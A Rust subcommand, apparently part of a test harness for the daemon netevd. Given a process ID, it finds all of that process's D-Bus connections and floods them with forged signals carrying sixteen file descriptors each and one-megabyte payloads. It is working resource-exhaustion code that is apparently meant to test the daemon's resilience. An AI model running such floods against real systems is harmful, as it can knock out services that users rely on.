//! `flood PID COUNT`: a user of the bus who bears netevd no good. To every connection of the process PID it
//! sends 20 times COUNT signals with sixteen descriptors each, and COUNT of a megabyte. Prints `{connections, sent}`.

use serde_json::json;
use std::os::fd::AsFd;
use zbus::connection::Builder;
use zbus::{Connection, Fd};

const BUS: &str = "org.freedesktop.DBus";
const PATH: &str = "/org/freedesktop/network1/link/_31";
const INTERFACE: &str = "org.freedesktop.DBus.Properties";
const MEMBER: &str = "PropertiesChanged";

pub(crate) fn run(arguments: &[String]) {
    let [pid, count] = arguments else { panic!("flood PID COUNT") };
    let (pid, count): (u32, usize) = (pid.parse().expect("PID"), count.parse().expect("COUNT"));
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    runtime.block_on(flood(pid, count));
}

async fn flood(pid: u32, count: usize) {
    let connection = Builder::system().build().await.expect("the bus answers");
    let names = ask(&connection, "ListNames", &()).await.expect("names");
    let names: Vec<String> = names.body().deserialize().expect("a list");
    let mut victims = Vec::new();
    for name in names.into_iter().filter(|name| name.starts_with(':')) {
        // Who left meanwhile has no process.
        let Some(answer) = ask(&connection, "GetConnectionUnixProcessID", &name).await else { continue };
        if answer.body().deserialize::<u32>().is_ok_and(|of| of == pid) {
            victims.push(name);
        }
    }
    let (null, long) = (std::fs::File::open("/dev/null").expect("there"), "x".repeat(1 << 20));
    let mut sent = 0;
    // As fast as they go: those with descriptors first, as long ones would hold them up.
    for _ in 0..count * 20 {
        for name in &victims {
            let sixteen: Vec<_> = (0..16).map(|_| Fd::from(null.as_fd())).collect();
            // The bus drops those who send too much; then it was enough.
            let one = connection.emit_signal(Some(name.as_str()), PATH, INTERFACE, MEMBER, &sixteen).await;
            sent += usize::from(one.is_ok());
        }
    }
    for _ in 0..count {
        for name in &victims {
            let one = connection.emit_signal(Some(name.as_str()), PATH, INTERFACE, MEMBER, &long).await;
            sent += usize::from(one.is_ok());
        }
    }
    // What was sent before has been handled.
    let _ = ask(&connection, "GetId", &()).await;
    println!("{}", json!({ "connections": victims.len(), "sent": sent }));
}

async fn ask<B>(connection: &Connection, member: &str, body: &B) -> Option<zbus::Message>
where
    B: zbus::export::serde::Serialize + zbus::DynamicType,
{
    let asked = connection.call_method(Some(BUS), "/org/freedesktop/DBus", Some(BUS), member, body);
    asked.await.ok()
}
